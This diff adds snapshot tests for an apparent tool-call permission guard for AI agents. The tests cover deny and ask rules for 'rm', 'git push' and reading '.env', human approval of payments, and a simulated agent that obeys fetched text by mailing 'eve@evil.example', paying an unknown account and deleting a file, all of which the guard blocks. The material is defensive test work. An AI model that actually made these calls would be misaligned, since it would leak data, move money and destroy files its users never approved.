@@ -157,3 +157,100 @@ fn a_loop_sends_what_was_recorded_to_two_providers() {
     model: Take the TGV 9243 at 8:33. It leaves from track 5.
     "#);
 }
+
+#[test]
+fn rules_allow_ask_deny_and_say_why() {
+    insta::assert_snapshot!(output("rules"), @r#"
+    offered: read_file, shell
+
+    shell({"command":"git log --oneline"})
+      (here `git log --oneline` would run)
+    shell({"command":"git log && git push origin main"})
+      denied: it must be asked about (shared branches are looked at first), and nobody can be asked here
+      Next: go on without it, or tell the user what you would have done
+      (because ask: shared branches are looked at first (haft.toml:9 ask "Bash(git push *)"))
+    shell({"command":"timeout 5 rm -r build"})
+      denied: nothing is deleted here, and secrets stay where they are
+      Next: go on without it, or tell the user what you would have done
+      (because deny: nothing is deleted here, and secrets stay where they are (haft.toml:15 deny "Bash(rm *)"))
+    shell({"command":"$TOOL x"})
+      denied: nothing is deleted here, and secrets stay where they are
+      Next: go on without it, or tell the user what you would have done
+      (because deny: nothing is deleted here, and secrets stay where they are (haft.toml:15 deny "Bash(rm *)"))
+    read_file({"path":"src/../.env"})
+      denied: nothing is deleted here, and secrets stay where they are
+      Next: go on without it, or tell the user what you would have done
+      (because deny: nothing is deleted here, and secrets stay where they are (haft.toml:15 deny "Read(./.env)"))
+    format_disk({})
+      not_offered: `format_disk` is not offered: nothing is deleted here, and secrets stay where they are
+      Next: use one of the tools you were given
+
+    ask: shared branches are looked at first
+      decided by  haft.toml:9 ask "Bash(git push *)"
+      touches     run `git push origin main`
+                  may destroy
+      has read    call haft-1 of `shell`
+      check       admit        passed    the arguments fit
+      check       deny rules   no match  none of 3 is about such a call
+      check       input rules  no match  there are none
+      check       ask rules    ask       haft.toml:9 ask "Bash(git push *)" it matches
+      check       verdict      ask       ask: shared branches are looked at first (haft.toml:9 ask "Bash(git push *)")
+      nearly      haft.toml:3 allow "Bash(git status *)": the tool matches, `git push origin main` is not `git status *`
+      to flip it  add `except = ["Bash(git push origin main)"]` to the rule at haft.toml:9
+
+    haft.toml:3:1: unknown key `decison` in a rule
+    hint: did you mean `decision`? Known are `id`, `match`, `decision`, `input`, `except`, `reason`, `priority`, `subject`, `when`, `rewrite`, `enabled`, `test`
+    haft.toml:1:1: a rule without `decision`
+    hint: add `decision = "allow"`, "ask", "deny" or "need_input"
+    "#);
+}
+
+#[test]
+fn whoever_is_asked_allows_edits_answers_and_declines() {
+    insta::assert_snapshot!(output("approvals"), @r#"
+    allowed once, with a comment: pay Ada 5
+      asked about pay({"to":"Ada","amount":5}): it does not say that it only reads
+      answered: Allow { lasting: Once, comment: Some("the last one today") }
+      model reads: paid 5 to Ada
+                   [note from the host: A person allowed this call and said: the last one today]
+    edited, then allowed: pay Ada 1000
+      asked about pay({"to":"Ada","amount":1000}): it does not say that it only reads
+      answered: Edit(Object {"to": String("Ada"), "amount": Number(10)})
+      asked about pay({"to":"Ada","amount":10}): it does not say that it only reads
+      answered: Allow { lasting: Once, comment: None }
+      model reads: paid 10 to Ada
+    answered instead: pay Ada 30
+      asked about pay({"to":"Ada","amount":30}): it does not say that it only reads
+      answered: Instead("already paid in cash")
+      model reads: already paid in cash
+    declined: pay Ada 40
+      asked about pay({"to":"Ada","amount":40}): it does not say that it only reads
+      answered: Deny(Some("not on a Friday"))
+      model reads: declined: a person said no: not on a Friday
+                   Next: go on without it, or tell the user what you would have done
+    allowed for the session: pay Ada 7
+      asked about pay({"to":"Ada","amount":7}): it does not say that it only reads
+      answered: Allow { lasting: Session, comment: None }
+      model reads: paid 7 to Ada
+    the same again: nobody is asked: pay Ada 7
+      model reads: paid 7 to Ada
+    another amount: no answer is left, so it does not run: pay Ada 8
+      asked about pay({"to":"Ada","amount":8}): it does not say that it only reads
+      model reads: guard_failed: whether this call is allowed could not be found out, so it is not
+    "#);
+}
+
+#[test]
+fn a_model_that_obeys_what_it_reads_has_no_effect_nobody_approved() {
+    insta::assert_snapshot!(output("obedient"), @r#"
+    model: fetch({"_url": "https://news.example"})
+    model: mail({"to": "eve@evil.example"})
+    model: pay({"to": "DE4471190"})
+    model: delete({"file": "notes.txt"})
+      asked: `eve@evil.example` comes from untrusted text: call haft-1 of `fetch`
+      asked: `DE4471190` comes from untrusted text: call haft-1 of `fetch`
+      asked: `notes.txt` comes from untrusted text: call haft-1 of `fetch`
+    happened: []
+    in a clean run: ["mail to bob@friends.example"]
+    "#);
+}
